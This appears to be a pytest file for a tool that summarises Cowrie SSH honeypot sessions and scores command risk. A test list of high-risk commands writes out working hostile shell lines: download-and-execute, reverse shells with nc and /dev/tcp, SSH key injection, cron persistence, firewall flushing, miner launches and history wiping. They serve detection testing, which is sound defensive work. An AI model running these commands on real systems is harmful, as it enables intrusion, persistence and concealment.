"""The fold from Cowrie events to a session, kind by kind and bound by bound."""

import json
from base64 import b64encode
from collections import defaultdict
from typing import Any

import msgspec
import pytest

from streams.sessions import aggregate, bounded, fold
from streams.sessions.commands import MAX_COMMAND_CHARS
from streams.sessions.fold import SessionFold
from streams.sessions.kinds import MAX_URL_CHARS
from tallystick.contracts.cowrie import (
    MAX_NAME_CHARS,
    First,
    SessionState,
    decode_state,
    encode_state,
    parse_tolerantly,
    session_key,
)
from tallystick.contracts.risk import of_command
from tallystick.contracts.text import normalize
from tests import sample

MEGABYTE = 1_000_000


def at(second: float) -> str:
    return f"2026-11-23T03:{int(second) // 60:02d}:{second % 60:09.6f}Z"


def event(kind: str, second: float = 0, **fields: Any) -> bytes:
    return json.dumps({"session": "s", "eventid": f"cowrie.{kind}", "timestamp": at(second), **fields}).encode()


def folded(*lines: bytes, source: str = "log", start: int = 0) -> SessionState:
    session = SessionFold(SessionState("vm", "s"))
    assert session.apply(source=source, positions=range(start, start + len(lines)), events=lines) == []
    return decode_state(encode_state(session.state()))


def shown(seen: list[Any], *names: str) -> list[tuple[Any, ...]]:
    return [tuple(getattr(each, name) for name in names) for each in seen]


def test_a_usual_session() -> None:
    end: dict[str, str | int] = {
        "src_ip": "198.51.100.7",
        "src_port": 35266,
        "dst_ip": "192.0.2.1",
        "dst_port": 2222,
        "protocol": "ssh",
    }
    state = folded(
        event("session.connect", 1, **end),
        event("client.version", 2, **end, version="SSH-2.0-Go"),
        event("client.kex", 3, **end, hassh="0a07365cc01fa9fc82608ba4019af499"),
        event("login.failed", 4, **end, username="root", password="root"),
        event("login.success", 5, **end, username="root", password="123456"),
        event("session.params", 6, **end, arch="linux-x64-lsb"),
        event("command.input", 7, **end, input="uname  -a"),
        event("session.closed", 9, **end, duration_ms=8000),
    )
    assert (state.revision, state.event_count, state.digests_complete) == (8, 8, True)
    assert (state.first_event_at, state.last_event_at, state.closed_at) == (at(1), at(9), at(9))
    assert [state.src_ip, state.src_port, state.dst_ip, state.dst_port, state.protocol] == [
        First(at(1), value) for value in end.values()
    ]
    assert state.client_version == First(at(2), "SSH-2.0-Go")
    assert state.hassh == First(at(3), "0a07365cc01fa9fc82608ba4019af499")
    assert state.arch == First(at(6), "linux-x64-lsb")
    assert state.duration_ms == First(at(9), 8000)
    assert (state.login_attempts, state.login_failed, state.login_succeeded) == (2, 1, 1)
    assert shown(state.logins, "username", "password", "succeeded") == [
        ("root", "root", False),
        ("root", "123456", True),
    ]
    assert shown(state.commands, "normalized", "occurrences", "first") == [("uname -a", 1, at(7))]
    assert state.sources == {"log": 7}
    assert (state.cut, state.limits) == ({}, {})


def test_an_address_is_that_of_the_earliest_event_whichever_comes_first() -> None:
    late, early = event("session.connect", 9, src_ip="192.0.2.9"), event("client.size", 1, src_ip="192.0.2.1")
    assert folded(late, early).src_ip == folded(early, late).src_ip == First(at(1), "192.0.2.1")


@pytest.mark.parametrize("kind", ["direct-tcpip.request", "direct-tcpip.data", "direct-tcpip.ja4h"])
def test_a_tunnels_target_and_origin_are_not_the_sessions_addresses(kind: str) -> None:
    state = folded(event(kind, dst_ip="203.0.113.5", dst_port=25, src_ip="10.0.0.1", src_port=1))
    assert (state.src_ip, state.src_port, state.dst_ip, state.dst_port) == (None,) * 4


DURATIONS = [
    pytest.param({"duration_ms": 35}, 35, id="milliseconds, as Cowrie 3 writes them"),
    pytest.param({"duration": 1.5}, 1500, id="seconds, as Cowrie 2 writes them"),
    pytest.param({"duration": "2.25"}, 2250, id="seconds as text"),
    pytest.param({"duration": 0}, 0, id="none at all is a duration"),
    pytest.param({"duration_ms": 7, "duration": 1}, 7, id="milliseconds before seconds"),
    pytest.param({"duration": "long"}, None, id="words"),
    pytest.param({"duration": "nan"}, None, id="not a number as text"),
    pytest.param({"duration": float("nan")}, None, id="not a number"),
    pytest.param({"duration": float("inf")}, None, id="infinity"),
    pytest.param({"duration_ms": 10**30}, None, id="more than can be stored"),
    pytest.param({"duration_ms": 10**400}, None, id="more than a float holds"),
    pytest.param({"duration_ms": -1}, None, id="negative"),
    pytest.param({"duration_ms": True}, None, id="a boolean"),
    pytest.param({}, None, id="missing"),
]


@pytest.mark.parametrize(("fields", "expected"), DURATIONS)
def test_a_sessions_duration(fields: dict[str, object], expected: int | None) -> None:
    state = folded(event("session.closed", 5, **fields))
    assert state.closed_at == at(5)
    assert state.duration_ms == (None if expected is None else First(at(5), expected))


def test_a_command_that_fails_was_typed_once_though_it_is_logged_twice() -> None:
    state = folded(event("command.input", 1, input="enable"), event("command.failed", 2, input="enable "))
    assert shown(state.commands, "normalized", "occurrences", "typed", "reported", "failed") == [("enable", 1, 1, 1, 1)]
    assert (state.command_count, state.command_failed) == (2, 1)


def test_a_failing_part_of_a_line_is_a_command_of_its_own() -> None:
    state = folded(event("command.input", 1, input="cd /; foo"), event("command.failed", 2, input="foo"))
    assert shown(state.commands, "normalized", "occurrences", "failed") == [("cd /; foo", 1, 0), ("foo", 1, 1)]


def test_commands_stand_in_the_order_in_which_they_were_first_typed() -> None:
    state = folded(
        event("command.input", 3, input="c"),
        event("command.input", 1, input="b"),
        event("command.input", 2, input="a"),
        event("command.input", 9, input="b"),
        event("command.input", 2, input="0", uuid="the same second, a later position"),
    )
    assert shown(state.commands, "normalized", "first", "last", "occurrences") == [
        ("b", at(1), at(9), 2),
        ("a", at(2), at(2), 1),
        ("0", at(2), at(2), 1),
        ("c", at(3), at(3), 1),
    ]


def test_commands_without_text_and_of_unknown_kinds_are_counted() -> None:
    state = folded(
        event("command.chpasswd", 1, username="root"),
        event("command.input", 2, input="  "),
        event("command.success", 3, input="ls"),
        event("command.invented", 4, input="ls"),
        event("session.input", 5, input="typed into a running command"),
    )
    assert state.command_count == 4
    assert shown(state.commands, "normalized", "occurrences", "typed") == [("ls", 2, 0)]


def test_a_long_command_is_cut_and_says_so() -> None:
    state = folded(event("command.input", 1, input="a" * (MAX_COMMAND_CHARS + 5) + " ; wget http://x/"))
    (command,) = state.commands
    assert command.normalized == "a" * MAX_COMMAND_CHARS
    assert command.cut_chars == len("aaaaa ; wget http://x/")
    assert command.high_risk


@pytest.mark.parametrize(
    ("text", "normalized"),
    [
        pytest.param("  ls   -la\t/tmp \n", "ls -la /tmp", id="runs of whitespace are one space, none at the ends"),
        pytest.param("LS", "LS", id="case stays"),
        pytest.param(" \n", "", id="nothing but whitespace"),
    ],
)
def test_normalized_commands(text: str, normalized: str) -> None:
    assert normalize(text) == normalized


@pytest.mark.parametrize(
    "command",
    [
        "wget http://192.0.2.1/x.sh",
        "cd /tmp || cd /run; curl -O http://192.0.2.1/x",
        "/usr/bin/curl http://192.0.2.1/x | sh",
        "tftp -g -r a 192.0.2.1",
        "ftpget -u anonymous 192.0.2.1 a a",
        "echo Y3VybA== | base64 -d | /bin/bash",
        "cat x|python3",
        "chmod +x a",
        "chmod 777 a; ./a",
        "chmod -R 0755 /tmp",
        "rm -rf /var/log",
        "rm -f -r x",
        'echo "ssh-rsa AAAA mdrfckr" >> ~/.ssh/authorized_keys',
        "crontab -r",
        '(crontab -l; echo "* * * * * x") | crontab -',
        "echo x > /etc/cron.d/x",
        "iptables -F",
        "iptables -t nat -F",
        "/bin/busybox MIRAI",
        "exec 3<>/dev/tcp/192.0.2.1/80",
        "nc -e /bin/sh 192.0.2.1 1",
        "nohup ./xmrig -o pool:4444 &",
        "history -c",
        "unset HISTFILE",
        "export HISTFILE=/dev/null",
        "cat /dev/null > ~/.bash_history",
        'echo "root:Zx9"|chpasswd',
    ],
)
def test_a_command_of_high_risk(command: str) -> None:
    assert of_command(command)


@pytest.mark.parametrize(
    "command",
    [
        "uname -a",
        "ls -la /tmp",
        "cat /etc/passwd",
        "which wget",
        "crontab -l",
        "chmod 600 x",
        "rm x",
        "echo rm",
        "iptables -L",
        "ps aux | grep sshd",
        "echo hello | wc",
        "history",
        "sync",
        "",
    ],
)
def test_a_command_of_no_high_risk(command: str) -> None:
    assert not of_command(command)


def test_credentials_are_kept_apart_by_outcome_and_key() -> None:
    state = folded(
        event("login.failed", 1, username="root", password="x"),
        event("login.success", 2, username="root", password="x"),
        event("login.failed", 3, username="root", password="x"),
        event("login.failed", 4, username="root", fingerprint="89:f8", key="ssh-rsa AAAA", type="ssh-rsa"),
        event("client.fingerprint", 3.9, username="root", fingerprint="89:f8", key="ssh-rsa AAAA", type="ssh-rsa"),
        event("login.invented", 5, username="root", password="x"),
        event("login.failed", 6),
    )
    assert shown(state.logins, "username", "password", "fingerprint", "succeeded", "occurrences") == [
        ("root", "x", "", False, 2),
        ("root", "x", "", True, 1),
        ("root", "", "89:f8", False, 1),
        ("", "", "", False, 1),
    ]
    assert shown(state.keys, "fingerprint", "type", "username", "occurrences", "first") == [
        ("89:f8", "ssh-rsa", "root", 2, at(3.9))
    ]
    assert (state.login_attempts, state.login_failed, state.login_succeeded) == (6, 4, 1)


def test_files_that_came_and_went() -> None:
    state = folded(
        event("session.file_download", 1, url="http://x/a.sh", outfile="dl/5f", shasum="5f"),
        event("session.file_download", 2, url="http://x/b", destfile="/tmp/b", outfile="dl/6a", shasum="6a", size=9),
        event("session.file_upload", 3, filename="up/x.sh", outfile="dl/77", shasum="77"),
        event("session.file_download.failed", 4, url="http://y/"),
        event("session.file_download.failed", 5),
        event("session.file_upload", 6, filename="up/x.sh", outfile="dl/77", shasum="77", size=-1),
    )
    assert (state.downloads, state.downloads_failed, state.uploads) == (2, 2, 2)
    assert shown(state.files, "how", "shasum", "url", "filename", "size", "occurrences") == [
        ("download", "5f", "http://x/a.sh", "5f", None, 1),
        ("download", "6a", "http://x/b", "b", 9, 1),
        ("upload", "77", "", "x.sh", None, 2),
        ("download_failed", "", "http://y/", "", None, 1),
    ]


def test_tunnels() -> None:
    state = folded(
        event("direct-tcpip.request", 1, dst_ip="example.org", dst_port=80, orig_ip="", orig_port=0),
        event("direct-tcpip.request", 2, dst_ip="2001:db8::1", dst_port=0),
        event("direct-tcpip.request", 3, dst_ip="example.org", dst_port=80),
        event("direct-tcpip.request", 4, dst_ip="example.org", dst_port=70_000),
        event("direct-tcpip.data", 5, dst_ip="example.org", dst_port=443),
    )
    assert state.tunnel_count == 4
    assert shown(state.tunnels, "dst_ip", "dst_port", "occurrences") == [
        ("example.org", 80, 2),
        ("2001:db8::1", 0, 1),
        ("example.org", None, 1),
    ]


ODD = [
    pytest.param({"input": ["ls"]}, "", id="a list where text is expected"),
    pytest.param({"input": 7}, "", id="a number where text is expected"),
    pytest.param({"input": "ls", "src_port": "22"}, "ls", id="text where a number is expected spoils nothing else"),
    pytest.param({"input": "ls", "size": float("nan")}, "ls", id="NaN spoils nothing else"),
    pytest.param({"input": "ls", "dst_port": 10**30}, "ls", id="a huge number spoils nothing else"),
    pytest.param({"input": "a\x00b"}, "a\\u0000b", id="NUL becomes visible"),
    pytest.param({"input": "a\ud800b"}, "a\\ud800b", id="a lone surrogate becomes visible"),
    pytest.param({"input": "☃ \x1b[0m"}, "☃ \x1b[0m", id="other text stays as it is"),
]


@pytest.mark.parametrize(("fields", "expected"), ODD)
def test_an_event_of_odd_types_is_counted_and_its_usable_fields_are_used(fields: dict[str, Any], expected: str) -> None:
    state = folded(event("command.input", 1, **fields))
    assert (state.event_count, state.command_count) == (1, 1)
    assert [command.normalized for command in state.commands] == [expected] * bool(expected)


def test_an_event_that_only_its_envelope_can_be_read_of_is_counted() -> None:
    state = folded(event("command.input", 1)[:-1] + b',"size":1' + b"0" * 5_000 + b',"input":"ls"}')
    assert (state.event_count, state.command_count, state.commands) == (1, 1, [])


def test_invalid_bytes_become_visible() -> None:
    state = folded(event("login.failed", 1, username="USER").replace(b"USER", b"\xff\xc3\xa9"))
    assert shown(state.logins, "username") == [("\\udcffé",)]


def test_epoch_times_and_offsets_are_times() -> None:
    lines = [
        b'{"eventid":"cowrie.x","time":1700000000.25}',
        b'{"eventid":"cowrie.x","timestamp":1700000001}',
        b'{"eventid":"cowrie.x","timestamp":"2023-11-15T00:13:22+0200"}',
    ]
    state = folded(*lines)
    assert (state.first_event_at, state.last_event_at) == ("2023-11-14T22:13:20.250000Z", "2023-11-14T22:13:22.000000Z")


def test_what_is_no_event_is_given_back_and_leaves_no_trace() -> None:
    session = SessionFold(SessionState("vm", "s"))
    bad = [b"{", b"[]", b'{"eventid":"cowrie.x"}', event("x").replace(b"cowrie.x", b"a\\u0000")]
    found = session.apply(source="log", positions=[3, 5, 8, 9], events=bad)
    assert [(each.position, each.event, each.reason) for each in found] == [
        (3, bad[0], "not JSON"),
        (5, bad[1], "not a JSON object"),
        (8, bad[2], "timestamp is missing"),
        (9, bad[3], "eventid is not usable"),
    ]
    assert session.state() == SessionState("vm", "s")


@pytest.mark.parametrize(
    ("odd", "reason"),
    [
        pytest.param({"eventid": "a" * (MAX_NAME_CHARS + 1)}, "eventid is not usable", id="a name that is too long"),
        pytest.param({"eventid": ""}, "eventid is not usable", id="an empty name"),
        pytest.param({"eventid": "a\nb"}, "eventid is not usable", id="a name with a line end"),
        pytest.param({"timestamp": "never"}, "timestamp is not usable", id="no time"),
        pytest.param({"timestamp": 1_764_000_000}, "", id="a time in another form is one"),
        pytest.param({"src_port": "22"}, "", id="a field of another type is no matter"),
    ],
)
def test_an_unusual_event_among_usual_ones_spoils_none_of_them(odd: dict[str, Any], reason: str) -> None:
    lines = [event("login.failed", 1, username="a"), event("x", 2, **odd), event("login.failed", 3, username="b")]
    session = SessionFold(SessionState("vm", "s"))
    found = session.apply(source="log", positions=[3, 5, 8], events=lines)
    assert [(each.position, each.reason) for each in found] == ([(5, reason)] if reason else [])
    assert shown(session.state().logins, "username", "position") == [("a", 3), ("b", 8)]
    assert session.state().event_count == (2 if reason else 3)


def test_a_repeat_among_new_events_of_a_slice_counts_once() -> None:
    one, two = event("login.failed", 1, username="a"), event("login.failed", 2, username="b")
    state = folded(one, two, one)
    assert (state.event_count, state.login_failed, state.sources) == (2, 2, {"log": 2})


def test_positions_and_events_must_be_as_many() -> None:
    with pytest.raises(ValueError, match="argument 2"):
        SessionFold(SessionState("vm", "s")).apply(source="log", positions=[1], events=[event("x"), event("y")])


def test_an_event_counts_once_however_often_and_whence_it_comes() -> None:
    lines = [event("command.input", second, input=f"c{second}") for second in range(5)]
    once = folded(*lines)
    session = SessionFold(once)
    session.apply(source="log", positions=range(5), events=lines)
    session.apply(source="copy", positions=range(100, 105), events=lines)
    again = session.state()
    assert again.sources == {"log": 4, "copy": 104}
    assert msgspec.structs.replace(again, sources={}) == msgspec.structs.replace(folded(*lines), sources={})


def test_past_the_bound_of_digests_watermarks_tell_what_is_new(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fold, "MAX_DIGESTS", 8)
    lines = [event("command.input", second, input=f"c{second}") for second in range(40)]
    state = SessionState("vm", "s")
    for start in [0, 10, 0, 20, 5, 20, 30, 0]:
        session = SessionFold(state)
        session.apply(source="log", positions=range(start, start + 10), events=lines[start : start + 10])
        state = decode_state(encode_state(session.state()))
    assert not state.digests_complete
    assert len(state.digests) == 8 * 8
    assert (state.event_count, len(state.commands), state.sources) == (40, 40, {"log": 39})
    assert encode_state(state) == encode_state(folded(*lines))


HOSTILE = '\x01\U0001f40d"\\\x00' * 700


def injection(number: int) -> str:
    """Return a command that injects a long key of its own, with a comment and a path of the greatest length."""
    content = b"\0\0\0\7ssh-rsa" + number.to_bytes(2_000)
    return f"echo 'ssh-rsa {b64encode(content).decode()} {'☃' * 200}' >> {'☃' * 200}/authorized_keys"


def hostile_events() -> list[bytes]:
    """Fill every list past its bound with what grows most in JSON, then the digests."""
    lines = []
    for n in range(400):
        text = f"{n}{chr(1) * 3_000}" if n % 2 else f"{n}{HOSTILE}"
        lines += [
            event("command.input", n, input=text),
            event("login.failed", n, username=text, password=text, fingerprint=text, type=text),
            event("session.file_download", n, url=text, shasum=text, filename=text),
            event("direct-tcpip.request", n, dst_ip=text, dst_port=1),
            event(f'☃"{n}{"🐍" * 200}', n, protocol=text, src_ip=text, dst_ip=text, version=text),
            event("client.version", n, version=text),
            event("client.kex", n, hassh=text),
            event("session.params", n, arch=text),
            event("command.input", n, input=injection(n)),
        ]
    return lines + [event("command.input", n % 60, input=f"{n}") for n in range(14_000)]


def test_no_attacker_makes_a_state_of_a_megabyte() -> None:
    lines = hostile_events()
    session = SessionFold(SessionState("☃" * MAX_NAME_CHARS, "☃" * 64))
    for number in range(0, len(lines), 20):
        session.apply(
            source=f"source-{number:050d}", positions=range(number, number + 20), events=lines[number : number + 20]
        )
    state = session.state()
    encoded = encode_state(state)
    assert 0.5 * MEGABYTE < len(encoded) < MEGABYTE
    assert decode_state(encoded) == state
    assert set(state.cut) == {"commands", "logins", "files", "tunnels", "keys", "injected", "kinds"}
    assert set(state.limits) == {*state.cut, "sources"}
    assert not state.digests_complete
    assert state.event_count == len(lines)
    assert (
        state.command_count == 14_800 == sum(command.occurrences for command in state.commands) + state.cut["commands"]
    )
    assert sum(login.occurrences for login in state.logins) + state.cut["logins"] == state.login_failed == 400
    assert sum(state.kinds.values()) + state.cut["kinds"] == len(lines)


LONGEST = {
    "commands": MAX_COMMAND_CHARS,
    "logins": 3 * MAX_NAME_CHARS + 4,
    "files": 2 * MAX_NAME_CHARS + MAX_URL_CHARS + len("download_failed") + 3,
    "tunnels": MAX_NAME_CHARS + 6,
    "keys": 3 * MAX_NAME_CHARS + 2,
    "kinds": MAX_NAME_CHARS,
}


@pytest.mark.parametrize("name", LONGEST)
def test_a_few_entries_fit_every_bound_however_long_they_are(name: str) -> None:
    bound = aggregate.BOUNDS[name]
    assert bounded.FEW * (bound.entry_bytes + 2 + 6 * LONGEST[name]) <= bound.max_bytes


def test_a_few_injected_keys_fit_their_bound_however_long_they_are() -> None:
    lines = [event("command.input", n, input=injection(n)) for n in range(2 * bounded.FEW)]
    state = folded(*lines)
    encoded = len(json.dumps(msgspec.to_builtins(state.injected), ensure_ascii=False).encode())
    assert len(state.injected) > bounded.FEW
    assert encoded * bounded.FEW / len(state.injected) < aggregate.BOUNDS["injected"].max_bytes


def test_keys_that_commands_inject() -> None:
    blob = "AAAAC3NzaC1lZDI1NTE5AAAAIFqJSYvl4SuNYzpE/7N+gDUjY1uGF8UlXQIEIABAPAox"
    inject = f"echo ssh-ed25519 {blob} me >> ~/.ssh/authorized_keys"
    state = folded(
        event("command.input", 2, input=inject),
        event("command.failed", 2, input=inject),
        event("command.input", 1, input=f"  {inject}"),
        event("command.input", 3, input=f"printf 'ssh-ed25519 {blob} you' > ~/.ssh/authorized_keys"),
    )
    names = ("occurrences", "first", "last", "blob", "bits", "comment", "method")
    assert shown(state.injected, *names) == [
        (2, at(1), at(2), blob, 256, "me", "direct_echo"),
        (1, at(3), at(3), blob, 256, "you", "printf"),
    ]


@pytest.mark.parametrize(
    ("lines", "score"),
    [
        pytest.param([event("session.connect")], 0, id="nothing happens"),
        pytest.param([event("login.success"), event("login.failed")], 30, id="the greatest event"),
        pytest.param([event("command.input", input="uname  -a")], 20, id="a command"),
        pytest.param([event("command.input", input="a\n./xmrig")] * 2, 90, id="a command of high risk"),
        pytest.param([event("command.input", input="x" * 5_000 + " xmrig")], 90, id="past the end of what is listed"),
    ],
)
def test_the_risk_of_a_session(lines: list[bytes], score: int) -> None:
    assert folded(*lines).risk == score


def test_no_command_holds_up_the_fold() -> None:
    # Linear patterns take milliseconds for these; one that backtracks would take minutes.
    for seed in [
        "wget",
        "|/aa",
        "chmod -a ",
        "rm -a ",
        "rm -",
        "iptables ",
        "nc ",
        ">",
        "history -",
        "shred ",
        "sudo ",
    ]:
        of_command(seed * 100_000 + " cron | /dev/ nc hist HIST tables passwd")


def naive(events: list[dict[str, Any]]) -> dict[str, Any]:
    ids = [str(each["eventid"]) for each in events]
    times = sorted(str(each["timestamp"]) for each in events)
    inputs = [each["input"] for each in events if each["eventid"] == "cowrie.command.input"]
    typed = [" ".join(typed.split())[:MAX_COMMAND_CHARS] for typed in inputs]
    return {
        "event_count": len(events),
        "first_event_at": times[0],
        "last_event_at": times[-1],
        "kinds": {kind: ids.count(kind) for kind in ids},
        "command_count": sum("cowrie.command" in kind for kind in ids),
        "command_failed": ids.count("cowrie.command.failed"),
        "login_attempts": sum(kind.startswith("cowrie.login") for kind in ids),
        "login_failed": ids.count("cowrie.login.failed"),
        "login_succeeded": ids.count("cowrie.login.success"),
        "downloads": ids.count("cowrie.session.file_download"),
        "uploads": ids.count("cowrie.session.file_upload"),
        "tunnel_count": ids.count("cowrie.direct-tcpip.request"),
        "typed": {command: typed.count(command) for command in typed if command},
        "src_ips": {each.get("src_ip") for each in events},
        "fingerprints": {each["fingerprint"] for each in events if each.get("fingerprint")},
    }


def test_a_whole_log_adds_up_to_what_a_naive_count_finds() -> None:
    sessions: dict[bytes, list[bytes]] = defaultdict(list)
    for line in sample.LINES:
        fields = parse_tolerantly(line)
        sessions[session_key(fields["sensor"], fields["session"])].append(line)
    states = {key: folded(*lines) for key, lines in sessions.items()}
    assert (len(states), sum(state.event_count for state in states.values())) == (sample.SESSIONS, sample.EVENTS)
    for key, state in states.items():
        expected = naive([json.loads(line) for line in sessions[key]])
        found = {name: getattr(state, name) for name in SessionState.__struct_fields__ if name in expected}
        found["typed"] = {command.normalized: command.typed for command in state.commands if command.typed}
        found["src_ips"] = {state.src_ip.value if state.src_ip else None}
        found["fingerprints"] = {offered.fingerprint for offered in state.keys}
        assert found == expected
        assert state.cut == {}
